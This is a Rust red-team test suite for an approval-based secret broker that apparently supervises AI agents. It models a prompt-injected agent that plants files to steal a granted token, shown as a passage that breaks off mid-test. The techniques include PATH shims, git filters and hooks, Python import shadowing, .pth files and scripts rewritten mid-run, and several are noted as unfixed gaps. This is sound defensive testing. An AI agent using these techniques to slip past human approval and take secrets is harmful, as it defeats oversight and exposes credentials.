//! Third red-team pass on issue 15 ("a grant binds what actually runs, to the end"), as a
//! prompt-injected agent of the same uid with the source in hand: it plants files, never knows
//! the passphrase, and gets at most one approval of a harmless-looking command (or a standing
//! grant approved before the plant).
//!
//! Each test performs the attack through the real broker and asserts the secure outcome. A test
//! whose attack still works is kept `#[ignore = "LEAK: ..."]` (so the suite stays green) with the
//! gap named in its comment; run it with `--ignored` to replay the leak. Values are generated;
//! the tests assert on a marker file's existence and content, never print a value.

use std::os::unix::fs::OpenOptionsExt;
use std::path::{Path, PathBuf};
use std::process::Output;
use std::time::Duration;

use crate::harness::*;
use crate::pathdirs::{Agent, approve_standing, exe, run, setup};

/// What the agent's planted code does with the value: writes it to a file the agent reads.
fn stealer(marker: &Path) -> String {
    format!("printf %s \"$TOKEN\" > '{}'\n", marker.display())
}

/// Whether the agent's marker file holds the granted value (the leak), without printing it.
fn stolen(marker: &Path, tok: &str) -> bool {
    std::fs::read(marker).is_ok_and(|b| contains(&b, tok))
}

fn git(dir: &Path, home: &Path, args: &[&str]) {
    let o = std::process::Command::new("git")
        .args(["-c", "user.name=kv", "-c", "user.email=kv@example.invalid"])
        .args(args)
        .current_dir(dir)
        .env("HOME", home)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .output()
        .unwrap();
    assert!(o.status.success(), "git {args:?}: {}", text(&o.stderr));
}

fn have(p: &str) -> bool {
    Path::new(p).is_file()
}

/// Approves `cmd` (run in `app`) with `--ttl 8h` and the given extra approve flags.
fn approve_with(a: &Agent, app: &Path, cmd: &[&str], extra: &[&str]) -> String {
    let h = &a.h;
    let o = run(h, app, "0", cmd);
    assert_eq!(o.status.code(), Some(5), "{}", text(&o.stderr));
    let card = h.ok(&["requests"]);
    let id = h.wait_request();
    let mut flags = vec!["--ttl", "8h"];
    flags.extend_from_slice(extra);
    assert!(h.approve(id, &flags).status.success());
    card
}

fn no_value_in(o: &Output, tok: &str) {
    assert!(!contains(&o.stdout, tok) && !contains(&o.stderr, tok));
}

// ---------------------------------------------------------------------------------------------
// 1. Directories a tool adds to PATH itself

/// npm puts `./node_modules/.bin` (and every parent's) in front of PATH for a script (npm-run-
/// script(1)). The human approves `npm test` whose script only uses system tools (`echo abc |
/// tr a-z A-Z`): the card shows the script. The agent plants `node_modules/.bin/tr`; the next
/// run under the standing grant runs it with the value. Planted before the request, the card of
/// a single approval does not show it either: nothing under `node_modules` is pinned.
///
/// Gap: `loaders::npm` pins rc files and `package.json`, and `path_dirs::path_pins` only
/// looks at the policy PATH, never the directories npm itself prepends.
#[test]
fn npm_test_never_runs_a_program_planted_in_node_modules_bin() {
    if !have("/usr/bin/npm") {
        return;
    }
    let (a, tok, app) = setup(&[], "");
    let h = &a.h;
    std::fs::write(
        app.join("package.json"),
        r#"{"name":"kvrt","version":"1.0.0","scripts":{"test":"echo abc | tr a-z A-Z"}}"#,
    )
    .unwrap();
    let cmd = ["npm", "test"];
    let card = approve_standing(&a, &app, &cmd);
    assert!(card.contains("tr a-z A-Z"), "{card}");
    let o = run(h, &app, "30", &cmd);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert!(text(&o.stdout).contains("ABC"), "{}", text(&o.stdout));

    let bin = app.join("node_modules/.bin");
    std::fs::create_dir_all(&bin).unwrap();
    let marker = a.path().join("stolen-npm");
    exe(
        &bin.join("tr"),
        &format!("#!/bin/sh\n{}exec /usr/bin/tr \"$@\"\n", stealer(&marker)),
    );
    let o = run(h, &app, "0", &cmd);
    no_value_in(&o, &tok);
    assert!(
        !stolen(&marker, &tok),
        "node_modules/.bin/tr planted after approval ran under the `npm test` grant (exit {:?})",
        o.status.code()
    );
    assert_eq!(o.status.code(), Some(3), "{}", text(&o.stderr));
}

/// A makefile the human approved puts a project directory in front of PATH (`export PATH :=
/// $(CURDIR)/tools:$(PATH)`, common for vendored tools); its recipe uses `tr`. The agent plants
/// `tools/tr` after approval.
///
/// Was a gap: the makefile was pinned, but directories a pinned input adds to PATH were not.
/// Now `loaders::make_path_dirs` finds every PATH assignment and pins each directory like a
/// PATH directory (fingerprint, re-checked at every run).
#[test]
fn make_test_never_runs_a_program_planted_in_a_dir_the_makefile_puts_on_path() {
    if !have("/usr/bin/make") {
        return;
    }
    let (a, tok, app) = setup(&[], "");
    let h = &a.h;
    std::fs::write(
        app.join("Makefile"),
        "export PATH := $(CURDIR)/tools:$(PATH)\ntest:\n\t@echo abc | tr a-z A-Z\n",
    )
    .unwrap();
    std::fs::create_dir_all(app.join("tools")).unwrap();
    let cmd = ["make", "test"];
    let _ = approve_standing(&a, &app, &cmd);
    let o = run(h, &app, "30", &cmd);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert!(text(&o.stdout).contains("ABC"));

    let marker = a.path().join("stolen-make");
    exe(
        &app.join("tools/tr"),
        &format!("#!/bin/sh\n{}exec /usr/bin/tr \"$@\"\n", stealer(&marker)),
    );
    let o = run(h, &app, "0", &cmd);
    no_value_in(&o, &tok);
    assert!(
        !stolen(&marker, &tok),
        "tools/tr planted after approval ran under the `make test` grant (exit {:?})",
        o.status.code()
    );
}

/// The same class in a recipe: `PATH=bin:$$PATH tr ...` on the recipe's own line (and a
/// target-specific `test: PATH := ...` in another makefile the first includes). The agent plants
/// `bin/tr` after approval: the grant ends, the planted program never runs.
#[test]
fn make_recipe_path_prefix_dir_is_pinned() {
    if !have("/usr/bin/make") {
        return;
    }
    let (a, tok, app) = setup(&[], "");
    let h = &a.h;
    std::fs::write(
        app.join("Makefile"),
        "include rules.mk\ntest:\n\t@PATH=bin:$$PATH; echo abc | tr a-z A-Z\n",
    )
    .unwrap();
    std::fs::write(
        app.join("rules.mk"),
        "lint: PATH := $(CURDIR)/lintbin:$(PATH)\n",
    )
    .unwrap();
    std::fs::create_dir_all(app.join("bin")).unwrap();
    let cmd = ["make", "test"];
    let card = approve_standing(&a, &app, &cmd);
    assert!(card.contains("lintbin"), "{card}");
    let o = run(h, &app, "30", &cmd);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert!(text(&o.stdout).contains("ABC"));

    let marker = a.path().join("stolen-make-recipe");
    exe(
        &app.join("bin/tr"),
        &format!("#!/bin/sh\n{}exec /usr/bin/tr \"$@\"\n", stealer(&marker)),
    );
    let o = run(h, &app, "0", &cmd);
    no_value_in(&o, &tok);
    assert!(!stolen(&marker, &tok), "bin/tr planted after approval ran");
    assert_eq!(o.status.code(), Some(3), "{}", text(&o.stderr));
}

/// What only make can expand is refused before anything is asked, with a hint: an include of a
/// computed name (`-include $(SRCS:.c=.d)`) and a PATH entry from `$(shell ...)`. An include of
/// a variable set to literal names is followed and pinned.
#[test]
fn make_inputs_only_make_can_expand_are_refused() {
    if !have("/usr/bin/make") {
        return;
    }
    let (a, _tok, app) = setup(&[], "");
    let h = &a.h;
    let cmd = ["make", "test"];
    for mk in [
        "SRCS = a.c\n-include $(SRCS:.c=.d)\ntest:\n\t@echo ok\n",
        "export PATH := $(shell cat where):$(PATH)\ntest:\n\t@echo ok\n",
        "BIN != cat where\nexport PATH := $(BIN):$(PATH)\ntest:\n\t@echo ok\n",
    ] {
        std::fs::write(app.join("Makefile"), mk).unwrap();
        let o = run(h, &app, "0", &cmd);
        let err = text(&o.stderr);
        assert_ne!(
            o.status.code(),
            Some(5),
            "asked the human for {mk:?}: {err}"
        );
        assert!(
            err.contains("cannot pin") && err.contains("hint:"),
            "{mk:?}: {err}"
        );
    }
    // A variable of literal names is followed: the included file is pinned and on the card.
    std::fs::write(
        app.join("Makefile"),
        "DEPS = extra.d\n-include $(DEPS)\ntest:\n\t@echo ok\n",
    )
    .unwrap();
    std::fs::write(app.join("extra.d"), "x: y\n").unwrap();
    let card = approve_standing(&a, &app, &cmd);
    assert!(card.contains("extra.d"), "{card}");
}

// ---------------------------------------------------------------------------------------------
// 2. A pinned script rewritten while it runs

/// bash reads a script as it executes it (it seeks back to the end of each command before
/// running it). The human approves `bash ci.sh` (`sleep 2; echo ok`). While the approved run
/// sleeps, the agent rewrites the rest of the file in place, and puts the approved bytes back
/// before the run ends. The stolen line runs with the value; the next check hashes the restored
/// file, equal to the pin, so the standing grant lives on and nothing is audited.
///
/// Was a LEAK: the interpreter re-read the script by path. Held: the run's reaper binds a sealed
/// copy of the checked script over its own path in the run's private mount namespace
/// (`reap/seal.rs`), so the run reads the approved bytes under the same name, and the run's end
/// still sees the write (the grant ends).
#[test]
fn a_script_rewritten_and_restored_during_a_run_never_runs_the_rewrite() {
    if !userns() {
        return;
    }
    let original = "sleep 2\necho approved-step\n";
    let (a, tok, app) = setup(&[], original);
    let h = &a.h;
    let cmd = ["bash", "ci.sh"];
    let _ = approve_standing(&a, &app, &cmd);
    let marker = a.path().join("stolen-toctou");
    let cwd = app.to_string_lossy().into_owned();
    let child = h.spawn_run(&[
        "run", "--cwd", &cwd, "--env", "demo", "--wait", "5", "--", "bash", "ci.sh",
    ]);
    std::thread::sleep(Duration::from_millis(1000));
    // Same inode (truncate and write), the first line unchanged: bash continues at offset 8.
    std::fs::write(
        app.join("ci.sh"),
        format!("sleep 2\n{}echo approved-step\n", stealer(&marker)),
    )
    .unwrap();
    let o = wait_output(child, Duration::from_secs(60));
    std::fs::write(app.join("ci.sh"), original).unwrap();
    no_value_in(&o, &tok);
    let leaked = stolen(&marker, &tok);
    // And the grant still stands: the next run is not asked for again.
    let again = run(h, &app, "0", &cmd);
    assert!(
        !leaked,
        "a line written into the approved script during its run executed with the value (next run exit {:?})",
        again.status.code()
    );
}

/// Whether this kernel lets an unprivileged process make a user namespace (the sealed run
/// needs one: without it the run reads its script by path, a limit `docs/threat-model.md`
/// states).
fn userns() -> bool {
    std::process::Command::new("unshare")
        .args(["-U", "-m", "true"])
        .stderr(std::process::Stdio::null())
        .status()
        .is_ok_and(|s| s.success())
}

/// The same rewrite, of a script the human approved as `./ci.sh` (run by its `#!` line: the
/// kernel hands its path to bash, which reads it as it runs) and of one approved as `sh ci.sh`
/// (dash, which reads its script the same way). Neither runs the line written during the run.
#[test]
fn a_script_run_by_its_shebang_or_by_sh_rewritten_during_a_run_never_runs_the_rewrite() {
    if !userns() {
        return;
    }
    for cmd in [&["./ci.sh"][..], &["sh", "ci.sh"][..]] {
        let original = "#!/bin/bash\nsleep 2\necho approved-step\n";
        let (a, tok, app) = setup(&[], original);
        std::fs::set_permissions(
            app.join("ci.sh"),
            std::os::unix::fs::PermissionsExt::from_mode(0o755),
        )
        .unwrap();
        let h = &a.h;
        let _ = approve_standing(&a, &app, cmd);
        let marker = a.path().join("stolen-toctou");
        let cwd = app.to_string_lossy().into_owned();
        let mut args = vec!["run", "--cwd", &cwd, "--env", "demo", "--wait", "5", "--"];
        args.extend_from_slice(cmd);
        let child = h.spawn_run(&args);
        std::thread::sleep(Duration::from_millis(1000));
        // The same inode, the first lines unchanged: the shell reads on at the same offset.
        std::fs::write(
            app.join("ci.sh"),
            format!(
                "#!/bin/bash\nsleep 2\n{}echo approved-step\n",
                stealer(&marker)
            ),
        )
        .unwrap();
        let o = wait_output(child, Duration::from_secs(60));
        no_value_in(&o, &tok);
        assert!(
            text(&o.stdout).contains("approved-step"),
            "{cmd:?}: the approved script did not run to its end: {}",
            text(&o.stderr)
        );
        assert!(
            !stolen(&marker, &tok),
            "{cmd:?}: a line written into the approved script during its run executed with the value"
        );
        // Put back as approved: the run's end saw the write all the same, the grant is gone.
        std::fs::write(app.join("ci.sh"), original).unwrap();
        let again = run(h, &app, "0", cmd);
        assert_eq!(
            again.status.code(),
            Some(5),
            "{cmd:?}: the grant outlived the rewrite: {}",
            text(&again.stderr)
        );
    }
}

/// The sealed copy keeps the script's name: `$0`, `BASH_SOURCE` and `dirname "$0"` say what they
/// say for an unsealed run (a script that sources its siblings still finds them).
#[test]
fn a_sealed_script_keeps_its_name_for_zero_and_bash_source() {
    if !userns() {
        return;
    }
    let original =
        "echo \"zero=$0 source=${BASH_SOURCE[0]} dir=$(cd \"$(dirname \"$0\")\" && pwd)\"\n";
    let (a, _tok, app) = setup(&[], original);
    let h = &a.h;
    let cmd = ["bash", "ci.sh"];
    let _ = approve_standing(&a, &app, &cmd);
    let o = run(h, &app, "5", &cmd);
    let out = text(&o.stdout);
    let dir = std::fs::canonicalize(&app).unwrap();
    assert!(
        out.contains("zero=ci.sh source=ci.sh") && out.contains(&format!("dir={}", dir.display())),
        "{out} {}",
        text(&o.stderr)
    );
}

// ---------------------------------------------------------------------------------------------
// 3. git: pinning the repository git does not use

/// git skips a `.git` directory that is not a repository and keeps walking up
/// (setup.c `setup_git_directory_gently_1`). The agent creates an empty `sub/.git/`: keyveil's
/// discovery stops there and pins nothing of the real repository's config, so a clean filter
/// in `app/.git/config` (selected by `.gitattributes`) is never shown on the card nor checked.
/// After approval of `git status --short` in `sub`, the filter is planted and runs with the
/// value.
///
/// Gap: `loaders::existing_git_dirs` takes the first `.git` entry up the tree; git takes the
/// first that is a valid repository (`HEAD`, `objects/`, `refs/` or `commondir`). Fix: apply git's
/// own test (or ask `git rev-parse --git-dir --git-common-dir` with the child's environment), and
/// pin every `.git` candidate up the tree.
#[test]
fn an_empty_dot_git_in_cwd_never_hides_the_real_repositorys_config() {
    if !have("/usr/local/bin/git") && !have("/usr/bin/git") {
        return;
    }
    let (a, tok, app) = setup(&[], "");
    let h = &a.h;
    let sub = app.join("sub");
    std::fs::create_dir_all(&sub).unwrap();
    git(&app, a.path(), &["init", "-q"]);
    std::fs::write(sub.join("f.txt"), "one\n").unwrap();
    git(&app, a.path(), &["add", "."]);
    git(&app, a.path(), &["commit", "-qm", "i"]);
    std::fs::create_dir(sub.join(".git")).unwrap();
    let cmd = ["git", "status", "--short"];
    let card = approve_standing(&a, &sub, &cmd);
    // git skips the empty `.git`: the repository it really reads is the one pinned and shown.
    let real = std::fs::canonicalize(app.join(".git/config")).unwrap();
    assert!(
        card.contains(&real.display().to_string()),
        "the real config is not pinned: {card}"
    );
    let o = run(h, &sub, "30", &cmd);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));

    let marker = a.path().join("stolen-git");
    let filter = a.path().join("filter.sh");
    exe(
        &filter,
        &format!("#!/bin/sh\n{}exec cat\n", stealer(&marker)),
    );
    let cfg = app.join(".git/config");
    let mut t = std::fs::read_to_string(&cfg).unwrap();
    t.push_str(&format!(
        "[filter \"kv\"]\n\tclean = {}\n",
        filter.display()
    ));
    std::fs::write(&cfg, t).unwrap();
    std::fs::write(app.join(".gitattributes"), "* filter=kv\n").unwrap();
    // A content change, so status must run the clean filter to compare.
    std::fs::write(sub.join("f.txt"), "two\n").unwrap();
    let o = run(h, &sub, "0", &cmd);
    no_value_in(&o, &tok);
    assert!(
        !stolen(&marker, &tok),
        "a clean filter in the real repository's config ran under the `git status` grant (exit {:?})",
        o.status.code()
    );
}

// ---------------------------------------------------------------------------------------------
// 4. Python: modules found next to the script or in the working directory

/// `python3 -m json.tool data.json`: with `-m`, the working directory is `sys.path[0]`, so a
/// `json/` package planted there is imported instead of the standard library's. Nothing in the
/// working directory is pinned for `-m` (the "script operand" is taken to be the module name).
///
/// Gap: `pin::inputs` (script operand) and `loaders::python`. Fix: for `-m MOD` and for a
/// script, pin what shadows imports: the fingerprint of `sys.path[0]` (the cwd or the script's
/// directory: its `*.py`, packages and `__pycache__`), or set `PYTHONSAFEPATH=1` (3.11+) for
/// granted children and say so.
#[test]
fn python_dash_m_never_imports_a_package_planted_in_the_working_directory() {
    if !have("/usr/bin/python3") {
        return;
    }
    let (a, tok, app) = setup(&[], "");
    let h = &a.h;
    std::fs::write(app.join("data.json"), "{\"a\": 1}\n").unwrap();
    let cmd = ["python3", "-m", "json.tool", "data.json"];
    let _ = approve_standing(&a, &app, &cmd);
    let o = run(h, &app, "30", &cmd);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert!(text(&o.stdout).contains("\"a\": 1"));

    let marker = a.path().join("stolen-pym");
    let pkg = app.join("json");
    std::fs::create_dir_all(&pkg).unwrap();
    std::fs::write(
        pkg.join("__init__.py"),
        format!(
            "import os\nopen({:?}, 'w').write(os.environ.get('TOKEN', ''))\n",
            marker.display().to_string()
        ),
    )
    .unwrap();
    std::fs::write(pkg.join("tool.py"), "print('\"a\": 1')\n").unwrap();
    let o = run(h, &app, "0", &cmd);
    no_value_in(&o, &tok);
    assert!(
        !stolen(&marker, &tok),
        "json/__init__.py planted in cwd ran under the `python3 -m json.tool` grant (exit {:?})",
        o.status.code()
    );
}

/// `python3 check.py`, where `check.py` (pinned, harmless) imports only the standard library
/// (`import json`). The script's directory comes first on `sys.path`: a `json.py` planted next
/// to it runs instead, with the value, and the card of a single approval never shows it.
#[test]
fn a_pinned_script_never_imports_a_module_planted_next_to_it() {
    if !have("/usr/bin/python3") {
        return;
    }
    let (a, tok, app) = setup(&[], "");
    let h = &a.h;
    std::fs::write(
        app.join("check.py"),
        "import json\nprint(json.dumps({'ok': True}))\n",
    )
    .unwrap();
    let marker = a.path().join("stolen-pyshadow");
    // Planted before the request: one approval of what looks like `python3 check.py`.
    std::fs::write(
        app.join("json.py"),
        format!(
            "import os\nopen({:?}, 'w').write(os.environ.get('TOKEN', ''))\ndef dumps(o):\n    return '{{\"ok\": true}}'\n",
            marker.display().to_string()
        ),
    )
    .unwrap();
    let cmd = ["python3", "check.py"];
    let card = approve_standing(&a, &app, &cmd);
    let shown = card.contains("json.py");
    let o = run(h, &app, "30", &cmd);
    no_value_in(&o, &tok);
    // Secure: the card names json.py as imported before the standard library (the directory
    // is pinned: a json.py planted after approval ends the grant), or it never runs.
    assert!(
        shown || !stolen(&marker, &tok),
        "json.py next to check.py ran with the value (shown on the card: {shown}; exit {:?})",
        o.status.code()
    );
}

// ---------------------------------------------------------------------------------------------
// 5. Prefix grants: positional arguments that are code

/// A prefix grant on `python3 -m unittest` (a test runner): extra positional arguments are
/// allowed, and `discover DIR` imports and runs every `test*.py` in a directory of the agent's
/// choosing. The same holds for `pytest PATH`, `go test PKG`, `python3 SCRIPT` (python is not in
/// `ALL_ARGUMENTS_RUN`).
///
/// Gap: `broker/prefix.rs::allowlist_covers`: positional extras of test runners and interpreters
/// name code. Fix: treat test runners' and interpreters' positionals as code (`ALL_ARGUMENTS_RUN`
/// for `python`, `unittest`, `pytest`, `go test`), or require every extra path to resolve inside
/// the granted cwd and pin what it names.
#[test]
fn a_unittest_prefix_grant_never_runs_tests_from_a_directory_the_agent_names() {
    if !have("/usr/bin/python3") {
        return;
    }
    let (a, tok, app) = setup(&[], "");
    let h = &a.h;
    std::fs::write(
        app.join("test_ok.py"),
        "import unittest\nclass T(unittest.TestCase):\n    def test_ok(self):\n        pass\n",
    )
    .unwrap();
    let cmd = ["python3", "-m", "unittest"];
    let _ = approve_with(&a, &app, &cmd, &["--prefix"]);
    let o = run(h, &app, "30", &cmd);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));

    let evil = a.path().join("evil");
    std::fs::create_dir_all(&evil).unwrap();
    let marker = a.path().join("stolen-unittest");
    std::fs::write(
        evil.join("test_x.py"),
        format!(
            "import os\nopen({:?}, 'w').write(os.environ.get('TOKEN', ''))\n",
            marker.display().to_string()
        ),
    )
    .unwrap();
    let dir = evil.display().to_string();
    let o = run(
        h,
        &app,
        "0",
        &["python3", "-m", "unittest", "discover", &dir],
    );
    no_value_in(&o, &tok);
    assert!(
        !stolen(&marker, &tok),
        "the `python3 -m unittest` prefix grant ran {dir}/test_x.py (exit {:?})",
        o.status.code()
    );
}

/// A project virtualenv run by path (`.venv/bin/python3 check.py`): keyveil canonicalises the
/// executable (`.venv/bin/python3` is a symlink to `/usr/bin/python3`) and pins the site
/// directories of `/usr`, but Python finds `pyvenv.cfg` next to `argv[0]` and loads the venv's
/// `site-packages`, whose `.pth` files (an `import` line runs code) are pinned nowhere.
///
/// Gap: `loaders::python_prefixes` works from `Ctx::exe` (canonical); the venv is known only
/// from the path as given (`argv[0]`, or the PATH entry that held it). Fix: derive prefixes from
/// the uncanonicalised path too (a `pyvenv.cfg` one or two levels above it), and pin the venv's
/// site directories like the interpreter's.
#[test]
fn a_pth_file_in_a_project_venv_never_runs_under_a_grant() {
    if !have("/usr/bin/python3") {
        return;
    }
    let (a, tok, app) = setup(&[], "");
    let h = &a.h;
    let o = std::process::Command::new("/usr/bin/python3")
        .args(["-m", "venv", "--without-pip", ".venv"])
        .current_dir(&app)
        .output()
        .unwrap();
    if !o.status.success() {
        return; // no venv module on this machine
    }
    std::fs::write(app.join("check.py"), "print('checked')\n").unwrap();
    let cmd = [".venv/bin/python3", "check.py"];
    let card = approve_standing(&a, &app, &cmd);
    let o = run(h, &app, "30", &cmd);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert!(text(&o.stdout).contains("checked"));

    let marker = a.path().join("stolen-venv");
    let site = std::fs::read_dir(app.join(".venv/lib"))
        .unwrap()
        .flatten()
        .map(|e| e.path().join("site-packages"))
        .find(|p| p.is_dir())
        .expect("the venv's site-packages");
    std::fs::write(
        site.join("zz_kv.pth"),
        format!(
            "import os; open({:?}, 'w').write(os.environ.get('TOKEN', ''))\n",
            marker.display().to_string()
        ),
    )
    .unwrap();
    let o = run(h, &app, "0", &cmd);
    no_value_in(&o, &tok);
    assert!(
        !stolen(&marker, &tok),
        "a .pth in {} ran under the grant (venv pinned on the card: {}; exit {:?})",
        site.display(),
        card.contains(".venv/lib"),
        o.status.code()
    );
}

/// The hooks directory is pinned file by file, at most 64 names (`loaders::pin_dir`,
/// `MAX_FILES`), sorted, with nothing said about the rest. The agent fills `.git/hooks` with 64
/// inert files whose names sort first (`aa00`...), then, after `git commit --allow-empty -m wip`
/// was approved as a standing grant, creates `post-commit`: neither the check of the pins nor
/// their re-derivation (which stops at the same 64 names) sees it.
///
/// Gap: truncation fails open (`loaders::pin_dir`, `Pins::add*` at `MAX_FILES * 4`). Fix: pin
/// the hooks directory (and Python site directories) by directory fingerprint
/// (`path_dirs::fingerprint`), and refuse (or fingerprint) rather than drop what is over a cap.
#[test]
fn a_hook_beyond_the_pin_cap_never_runs_under_a_git_grant() {
    if !have("/usr/local/bin/git") && !have("/usr/bin/git") {
        return;
    }
    let (a, tok, app) = setup(&[], "");
    let h = &a.h;
    git(&app, a.path(), &["init", "-q"]);
    git(&app, a.path(), &["config", "user.name", "kv"]);
    git(
        &app,
        a.path(),
        &["config", "user.email", "kv@example.invalid"],
    );
    let hooks = app.join(".git/hooks");
    for n in 0..64 {
        std::fs::write(hooks.join(format!("aa{n:02}")), "").unwrap();
    }
    let cmd = ["git", "commit", "-q", "--allow-empty", "-m", "wip"];
    let _ = approve_standing(&a, &app, &cmd);
    let o = run(h, &app, "30", &cmd);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));

    let marker = a.path().join("stolen-hook");
    exe(
        &hooks.join("post-commit"),
        &format!("#!/bin/sh\n{}", stealer(&marker)),
    );
    let o = run(h, &app, "0", &cmd);
    no_value_in(&o, &tok);
    assert!(
        !stolen(&marker, &tok),
        "a post-commit hook created after approval ran under the grant (exit {:?})",
        o.status.code()
    );
}

/// A bare repository (a mirror) has no `.git` entry: git recognises the directory itself
/// (`HEAD`, `objects/`, `refs/`). keyveil looks only for `.git` up the tree, so the mirror's
/// `config` is neither shown nor pinned for `git fetch` run in it. After approval the agent sets
/// `remote.origin.uploadpack` (run through the shell for a local remote).
///
/// Gap: `loaders::existing_git_dirs` / `git_dirs` ignore bare repositories (and `GIT_DIR`-less
/// discovery of a git directory itself). Fix: apply git's `is_git_directory` test to each
/// directory up the tree as well as to its `.git`.
#[test]
fn a_bare_repositorys_config_is_pinned_for_git_run_inside_it() {
    if !have("/usr/local/bin/git") && !have("/usr/bin/git") {
        return;
    }
    let (a, tok, app) = setup(&[], "");
    let h = &a.h;
    let src = a.path().join("src");
    std::fs::create_dir_all(&src).unwrap();
    git(&src, a.path(), &["init", "-q"]);
    git(
        &src,
        a.path(),
        &["commit", "-q", "--allow-empty", "-m", "i"],
    );
    let mirror = app.join("mirror.git");
    git(
        &app,
        a.path(),
        &[
            "clone",
            "-q",
            "--mirror",
            &src.display().to_string(),
            "mirror.git",
        ],
    );
    let cmd = ["git", "fetch", "-q"];
    let card = approve_standing(&a, &mirror, &cmd);
    let o = run(h, &mirror, "30", &cmd);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));

    let marker = a.path().join("stolen-bare");
    let up = a.path().join("up.sh");
    exe(
        &up,
        &format!(
            "#!/bin/sh\n{}exec git-upload-pack \"$@\"\n",
            stealer(&marker)
        ),
    );
    git(
        &mirror,
        a.path(),
        &[
            "config",
            "remote.origin.uploadpack",
            &up.display().to_string(),
        ],
    );
    let o = run(h, &mirror, "0", &cmd);
    no_value_in(&o, &tok);
    assert!(
        !stolen(&marker, &tok),
        "an uploadpack set in the bare repository's config ran under the grant (config on the card: {}; exit {:?})",
        card.contains("mirror.git/config"),
        o.status.code()
    );
}

/// A repository config over 1 MiB (padded with comments) is pinned by hash but never read
/// (`pin::pin_input_text`, `MAX_TEXT`): the card quotes none of its code-running settings and
/// its includes are not followed. A clean filter defined in it runs on the first run of a single
/// approved `git status --short`, with a card that shows the config as an input and nothing of
/// the filter.
///
/// Gap: `pin_input_text` returns empty text for a big file. Fix: read the whole file for the
/// tools that read it whole (git reads any size), or refuse a config too big to show ("cannot
/// show what this config runs"), never show it as if it ran nothing.
#[test]
fn a_big_git_config_never_hides_its_code_settings_from_the_card() {
    if !have("/usr/local/bin/git") && !have("/usr/bin/git") {
        return;
    }
    let (a, tok, app) = setup(&[], "");
    let h = &a.h;
    git(&app, a.path(), &["init", "-q"]);
    std::fs::write(app.join("f.txt"), "one\n").unwrap();
    git(&app, a.path(), &["add", "."]);
    git(&app, a.path(), &["commit", "-qm", "i"]);
    let marker = a.path().join("stolen-bigcfg");
    let filter = a.path().join("filter.sh");
    exe(
        &filter,
        &format!("#!/bin/sh\n{}exec cat\n", stealer(&marker)),
    );
    let cfg = app.join(".git/config");
    let mut t = std::fs::read_to_string(&cfg).unwrap();
    t.push_str(&format!(
        "[filter \"kv\"]\n\tclean = {}\n",
        filter.display()
    ));
    let pad = "# ".to_owned() + &"x".repeat(1022) + "\n";
    for _ in 0..1100 {
        t.push_str(&pad);
    }
    std::fs::write(&cfg, t).unwrap();
    std::fs::write(app.join(".gitattributes"), "* filter=kv\n").unwrap();
    std::fs::write(app.join("f.txt"), "two\n").unwrap();
    // One approval, of what the card shows; or, since keyveil cannot read a config this big,
    // a refusal before any card (fail closed).
    let cmd = ["git", "status", "--short"];
    let o = run(h, &app, "0", &cmd);
    if o.status.code() != Some(5) {
        no_value_in(&o, &tok);
        assert!(!stolen(&marker, &tok));
        let e = text(&o.stderr);
        assert!(e.contains("over 1 MiB") && e.contains("hint:"), "{e}");
        return;
    }
    let card = approve_standing(&a, &app, &cmd);
    let shown = card.contains("filter.kv.clean");
    let o = run(h, &app, "30", &cmd);
    no_value_in(&o, &tok);
    assert!(
        shown || !stolen(&marker, &tok),
        "a clean filter not quoted on the card ran with the value (exit {:?})",
        o.status.code()
    );
}

/// `-include *.d` (the usual dependency-file line of a C makefile): make expands the glob, and
/// a `.d` file can hold any make syntax, `$(shell ...)` included, run while make reads it.
/// keyveil follows literal include names only and takes `*.d` as a file name that does not
/// exist: nothing is pinned, and a `.d` file planted after approval runs under the grant.
///
/// Gap: `loaders::make_includes` (names with `*`, `?`, `[` are globs in make: pin the glob's
/// directory by fingerprint, or expand it the way make does and pin each match plus the
/// directory listing).
#[test]
fn a_makefile_glob_include_never_pulls_in_a_file_planted_after_approval() {
    if !have("/usr/bin/make") {
        return;
    }
    let (a, tok, app) = setup(&[], "");
    let h = &a.h;
    std::fs::write(
        app.join("Makefile"),
        "test:\n\t@echo tests-ok\n\n-include *.d\n",
    )
    .unwrap();
    let cmd = ["make", "test"];
    let _ = approve_standing(&a, &app, &cmd);
    let o = run(h, &app, "30", &cmd);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));

    let marker = a.path().join("stolen-make-glob");
    std::fs::write(
        app.join("main.d"),
        format!(
            "X := $(shell printf %s \"$$TOKEN\" > '{}')\n",
            marker.display()
        ),
    )
    .unwrap();
    let o = run(h, &app, "0", &cmd);
    no_value_in(&o, &tok);
    assert!(
        !stolen(&marker, &tok),
        "main.d planted after approval was included by `-include *.d` and ran (exit {:?})",
        o.status.code()
    );
}

/// A writable PATH directory with more than 10,000 entries is pinned by its listing's identity
/// only (`path_dirs::fingerprint`, `MAX_ENTRIES`): rewriting a program in it in place changes the
/// file's ctime, not the directory's. The card still says "10001 programs, pinned (a change ends
/// the grant)".
///
/// Gap: `path_dirs::fingerprint` fails open past `MAX_ENTRIES`. Fix: refuse to pin (ask for a
/// new approval at every run, or refuse the grant) a directory too big to fingerprint, or
/// fingerprint only the names the command can look up, always.
#[test]
fn a_helper_rewritten_in_a_huge_path_dir_never_runs() {
    let (a, tok, app) = setup(&["bigbin"], "echo abc | kvfmt\n");
    let h = &a.h;
    let bin = a.path().join("bigbin");
    std::fs::create_dir_all(&bin).unwrap();
    for n in 0..10_001 {
        std::fs::write(bin.join(format!("f{n:05}")), "").unwrap();
    }
    exe(&bin.join("kvfmt"), "#!/bin/sh\ncat\n");
    let cmd = ["sh", "ci.sh"];
    let card = approve_standing(&a, &app, &cmd);
    assert!(card.contains("(path-dir)"), "{card}");
    let o = run(h, &app, "30", &cmd);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert!(text(&o.stdout).contains("abc"));

    let marker = a.path().join("stolen-bigdir");
    // In place: same inode, the directory itself untouched.
    std::fs::write(
        bin.join("kvfmt"),
